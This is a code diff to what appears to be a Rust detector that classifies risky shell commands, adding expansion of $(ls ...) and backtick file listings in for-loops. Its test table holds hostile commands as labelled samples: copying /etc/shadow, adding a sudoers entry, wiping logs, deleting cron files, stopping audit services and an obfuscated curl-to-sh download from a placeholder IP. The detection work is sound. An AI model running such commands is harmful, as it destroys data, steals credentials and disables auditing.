@@ -88,11 +88,30 @@ fn values(line: &CommandLine) -> Values<'_> {
         }
     }
     for each in &line.loops {
+        let scope = (each.body.start, each.body.end);
         for word in each.words.iter().take(VALUES) {
-            add(&mut values, &each.name, word.clone(), (each.body.start, each.body.end));
+            for part in listed(&word.text) {
+                add(
+                    &mut values,
+                    &each.name,
+                    Word { unknown: Unknown::GLOB, text: part.to_owned(), ..word.clone() },
+                    scope,
+                );
+            }
+            add(&mut values, &each.name, word.clone(), scope);
         }
     }
     values
+}
+
+/// What `$(ls /var/log/*.log)` and its like list: the places that they are given.
+fn listed(text: &str) -> impl Iterator<Item = &str> {
+    let inside = text.strip_prefix("$(").and_then(|rest| rest.strip_suffix(')'));
+    let inside = inside.or_else(|| text.strip_prefix('`').and_then(|rest| rest.strip_suffix('`')));
+    let mut words = inside.unwrap_or_default().split_whitespace();
+    let lists = matches!(words.next(), Some("ls" | "find" | "echo" | "realpath" | "readlink"));
+    let place = |word: &&str| word.starts_with(['/', '~']) && !word.contains(['$', '(', '`', '|', ';', '&', '<', '>']);
+    words.take_while(|word| *word != "|").filter(move |word| lists && place(word)).take(VALUES)
 }
 
 fn add<'l>(values: &mut Values<'l>, name: &'l str, word: Word, (from, to): (usize, usize)) {
@@ -296,6 +315,8 @@ mod tests {
             ("for d in /usr /opt; do find $d -perm /u+s; done", "privilege-search"),
             ("for f in /etc/shadow /etc/gshadow; do cp $f /tmp/x; done", "credential-read"),
             ("t=/etc/sudoers.d/x; echo 'a ALL=(ALL) ALL' > $t", "write-accounts"),
+            ("for f in $(ls /var/log/*.log); do :> $f; done", "logs"),
+            ("for f in `find /etc/cron.d -type f`; do rm $f; done", "delete-system"),
             ("for s in auditd rsyslog; do systemctl stop $s; done", "defences"),
             ("d=/srv/data; rm -rf \"$d\"", "delete-system"),
             ("a=cu; b=rl; $a$b -s http://192.0.2.200/p | sh", "download-and-run"),
@@ -306,6 +327,8 @@ mod tests {
         }
         for line in [
             "for f in a.txt b.txt; do wc -l $f; done",
+            "for f in $(ls src/*.rs); do wc -l $f; done",
+            "for f in $(git ls-files /srv/x); do wc -l $f; done",
             "for v in 1.2 1.3; do git tag --list v$v; done",
             "d=build; mkdir -p $d; cp a.o $d/",
             "for d in src tests; do cargo fmt --check -p $d; done",
